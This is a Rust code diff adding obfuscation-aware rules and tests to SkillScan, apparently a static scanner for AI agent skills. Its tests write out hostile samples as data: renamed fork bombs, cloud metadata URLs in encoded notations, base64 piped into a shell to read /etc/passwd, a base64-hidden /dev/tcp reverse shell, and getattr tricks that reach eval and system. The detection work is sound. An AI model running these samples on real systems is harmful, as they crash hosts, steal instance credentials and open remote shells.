@@ -1,7 +1,14 @@
 //! SkillScan, the deterministic static scan of a candidate skill (spec G.2): every file
 //! of the skill as it would be after the write, checked against fixed rules. A CRITICAL
 //! finding blocks the write; the others go to the LLM scan as context. Rules report once
-//! per file, at their first line; secret evidence is never shown.
+//! per file, at their first line; secret evidence is never shown. Beyond DeerFlow's rules,
+//! text is normalised before it is judged: embedded base64 is decoded and scanned again
+//! (`{file} (base64)`), IP literals in any notation are read as addresses (the metadata
+//! service as a decimal number), a fork bomb is found under any function name, and
+//! Python's `getattr`/`__builtins__` lookups count as dynamic execution. What it cannot
+//! promise: it reads text, not behaviour; code built at run time from pieces it cannot see
+//! joined (string arithmetic, downloads, other encodings) passes it, which is why the LLM
+//! scan and the sandbox stand behind it.
 
 use std::sync::LazyLock;
 
@@ -325,6 +332,134 @@ static SH_SINK: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"\b(?:curl|wget|nc|scp)\b").expect("a valid pattern")
 });
 
+/// A base64 run long enough to hide a command.
+static BASE64_RUN: LazyLock<Regex> = LazyLock::new(|| {
+    #[allow(clippy::expect_used)]
+    Regex::new(r"[A-Za-z0-9+/]{16,}={0,2}").expect("a valid pattern")
+});
+/// Decoded base64 piped into a shell or an interpreter.
+static BASE64_TO_SHELL: LazyLock<Regex> = LazyLock::new(|| {
+    #[allow(clippy::expect_used)]
+    Regex::new(r"\bbase64\s+(?:-d|--decode|-D)\b[^|\n]*\|\s*(?:sudo\s+)?(?:(?:ba|z|da|k)?sh|python3?|perl|node)\b").expect("a valid pattern")
+});
+/// A URL's host, whatever its notation.
+static URL_HOST: LazyLock<Regex> = LazyLock::new(|| {
+    #[allow(clippy::expect_used)]
+    Regex::new(r#"(?i)\bhttps?://[^\s/'"<>?#]+"#).expect("a valid pattern")
+});
+/// A shell function definition: its name and body.
+static SHELL_FUNCTION: LazyLock<Regex> = LazyLock::new(|| {
+    #[allow(clippy::expect_used)]
+    Regex::new(r"(?:\bfunction\s+([A-Za-z_:.][\w:.]*)\s*(?:\(\s*\))?|([A-Za-z_:.][\w:.]*)\s*\(\s*\))\s*\{([^}]*)\}").expect("a valid pattern")
+});
+
+/// Python's ways of reaching eval/exec/system by a name built at run time.
+static PYTHON_OBFUSCATION: LazyLock<Vec<Rule>> = LazyLock::new(|| {
+    vec![rule(
+        "python-dynamic-attribute",
+        Critical,
+        r#"\bgetattr\s*\(\s*(?:__builtins__|builtins|os|subprocess|sys|importlib)\b|__builtins__\s*(?:\[|\.__dict__)|\bglobals\s*\(\s*\)\s*\[\s*["']__builtins__"#,
+        "A builtin or os function is looked up by a name built at run time (getattr on builtins, os or subprocess).",
+        "Call the function directly.",
+    )]
+});
+
+/// The rules that read through notation: base64, IP literals, renamed fork bombs.
+fn normalised(path: &str, text: &str, out: &mut Vec<Finding>) {
+    if let Some(m) = BASE64_TO_SHELL.find(text) {
+        out.push(finding(
+            "obfuscation-base64-to-shell",
+            Critical,
+            path,
+            Some(line_of(text, m.start())),
+            "Decoded base64 is piped into a shell or an interpreter.",
+            "Ship the commands as plain text.",
+            Some(evidence(text, m.start(), m.end())),
+        ));
+    }
+    // Embedded base64: decoded and judged as text of its own (once, no deeper).
+    if !path.ends_with(BASE64_SUFFIX) {
+        use base64::Engine;
+        let mut decoded = String::new();
+        for m in BASE64_RUN.find_iter(text) {
+            let run = m.as_str().trim_end_matches('=');
+            let bytes = base64::engine::general_purpose::STANDARD_NO_PAD
+                .decode(run)
+                .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(run));
+            if let Ok(plain) = bytes.map(String::from_utf8) {
+                if let Ok(plain) = plain {
+                    if plain.chars().all(|c| !c.is_control() || c.is_whitespace()) {
+                        decoded.push_str(&plain);
+                        decoded.push('\n');
+                    }
+                }
+            }
+        }
+        if !decoded.is_empty() {
+            let inner = format!("{path}{BASE64_SUFFIX}");
+            let mut found = Vec::new();
+            apply(&TEXT_RULES, &inner, &decoded, &mut found);
+            apply(&SHELL_RULES, &inner, &decoded, &mut found);
+            apply(&PYTHON_RULES, &inner, &decoded, &mut found);
+            normalised(&inner, &decoded, &mut found);
+            for mut f in found {
+                // Hidden behind an encoding: at least HIGH.
+                f.severity = f.severity.max(High);
+                out.push(f);
+            }
+        }
+    }
+    // The metadata service by any notation of its address (decimal, hex, octal, v4 in v6).
+    for m in URL_HOST.find_iter(text) {
+        let metadata = url::Url::parse(m.as_str()).ok().is_some_and(|u| match u.host() {
+            Some(url::Host::Ipv4(ip)) => ip == std::net::Ipv4Addr::new(169, 254, 169, 254),
+            Some(url::Host::Ipv6(ip)) => {
+                ip.to_ipv4_mapped() == Some(std::net::Ipv4Addr::new(169, 254, 169, 254))
+                    || ip == std::net::Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254)
+            }
+            _ => false,
+        });
+        if metadata && !out.iter().any(|f| f.rule_id == "network-cloud-metadata" && f.file == path) {
+            out.push(finding(
+                "network-cloud-metadata",
+                Critical,
+                path,
+                Some(line_of(text, m.start())),
+                "The skill reaches the cloud instance metadata service.",
+                "Remove the metadata endpoint; skills must not read instance credentials.",
+                Some(evidence(text, m.start(), m.end())),
+            ));
+            break;
+        }
+    }
+    // A fork bomb under any name: a function whose body pipes it into itself, backgrounded.
+    if !out.iter().any(|f| f.rule_id == "resource-fork-bomb" && f.file == path) {
+        for c in SHELL_FUNCTION.captures_iter(text) {
+            let (Some(name), Some(body)) = (c.get(1).or(c.get(2)), c.get(3)) else {
+                continue;
+            };
+            let body: String = body.as_str().chars().filter(|c| !c.is_whitespace()).collect();
+            let name = name.as_str();
+            if body.contains(&format!("{name}|{name}&")) {
+                let at = c.get(0).map_or(0, |m| m.start());
+                out.push(finding(
+                    "resource-fork-bomb",
+                    Critical,
+                    path,
+                    Some(line_of(text, at)),
+                    "A fork bomb.",
+                    "Remove it.",
+                    Some(evidence(text, at, at)),
+                ));
+                break;
+            }
+        }
+    }
+}
+
+/// How the findings of decoded base64 name their file.
+const BASE64_SUFFIX: &str = " (base64)";
+
 /// DeerFlow's placeholder test for a secret's value.
 pub fn is_placeholder(value: &str) -> bool {
     let v = value.trim().trim_matches(['"', '\'']);
@@ -518,6 +653,7 @@ fn scan_file(path: &str, bytes: &[u8], out: &mut Vec<Finding>) {
         return;
     };
     apply(&TEXT_RULES, path, text, out);
+    normalised(path, text, out);
     if let Some(m) = CLOUD_TOKEN
         .find_iter(text)
         .find(|m| !is_placeholder(m.as_str()))
@@ -591,6 +727,7 @@ fn scan_file(path: &str, bytes: &[u8], out: &mut Vec<Finding>) {
 
 fn scan_python(path: &str, text: &str, out: &mut Vec<Finding>) {
     apply(&PYTHON_RULES, path, text, out);
+    apply(&PYTHON_OBFUSCATION, path, text, out);
     let sink = PY_NETWORK_SINK.find(text);
     let at = |m: regex::Match<'_>| Some(line_of(text, m.start()));
     if let Some(m) = PY_SENSITIVE_PATH.find(text) {
@@ -672,6 +809,72 @@ mod tests {
         .into_iter()
         .map(|f| f.rule_id)
         .collect()
+    }
+
+    fn critical(path: &str, text: &str) -> Vec<(String, &'static str)> {
+        scan(&[CandidateFile::Regular {
+            path: path.into(),
+            bytes: text.as_bytes().to_vec(),
+        }])
+        .into_iter()
+        .filter(|f| f.severity == Severity::Critical)
+        .map(|f| (f.file, f.rule_id))
+        .collect()
+    }
+
+    #[test]
+    fn trivial_obfuscation_does_not_get_past_the_scan() {
+        use base64::Engine;
+        // The metadata address as a number, in hex, in octal, v4 in v6.
+        for url in [
+            "http://2852039166/latest/meta-data/",
+            "http://0xa9fea9fe/latest",
+            "http://0251.0376.0251.0376/latest",
+            "http://[::ffff:169.254.169.254]/latest",
+        ] {
+            assert!(
+                ids("references/n.md", &format!("curl {url}")).contains(&"network-cloud-metadata"),
+                "{url}"
+            );
+        }
+        // A renamed fork bomb.
+        for bomb in ["bomb(){ bomb|bomb& };bomb", "function f { f | f & }; f", "x() { x | x & }; x"] {
+            let found = critical("scripts/a.sh", bomb);
+            assert!(
+                found.iter().any(|(_, id)| *id == "resource-fork-bomb"),
+                "{bomb}: {found:?}"
+            );
+        }
+        // Base64 decoded into a shell, and base64 hiding a reverse shell.
+        assert!(critical("scripts/a.sh", "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh")
+            .iter()
+            .any(|(_, id)| *id == "obfuscation-base64-to-shell"));
+        let hidden = base64::engine::general_purpose::STANDARD
+            .encode("bash -c 'cat < /dev/tcp/10.0.0.1/4444'");
+        let found = critical("references/n.md", &format!("payload: {hidden}"));
+        assert!(
+            found.contains(&("references/n.md (base64)".to_owned(), "shell-reverse-shell")),
+            "{found:?}"
+        );
+        // getattr tricks.
+        for py in [
+            "f = getattr(__builtins__, 'ev' + 'al')\nf(s)\n",
+            "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
+            "__builtins__.__dict__['ex' + 'ec'](s)\n",
+        ] {
+            assert!(
+                critical("scripts/a.py", py)
+                    .iter()
+                    .any(|(_, id)| *id == "python-dynamic-attribute"),
+                "{py}"
+            );
+        }
+        // Ordinary text is not flagged: a long word, a normal URL, a normal function.
+        assert!(critical(
+            "SKILL.md",
+            "---\nname: a\ndescription: b\n---\nSee https://example.com/ExtraordinarilyLongPathSegment and run build() { make; }\n"
+        )
+        .is_empty());
     }
 
     #[test]
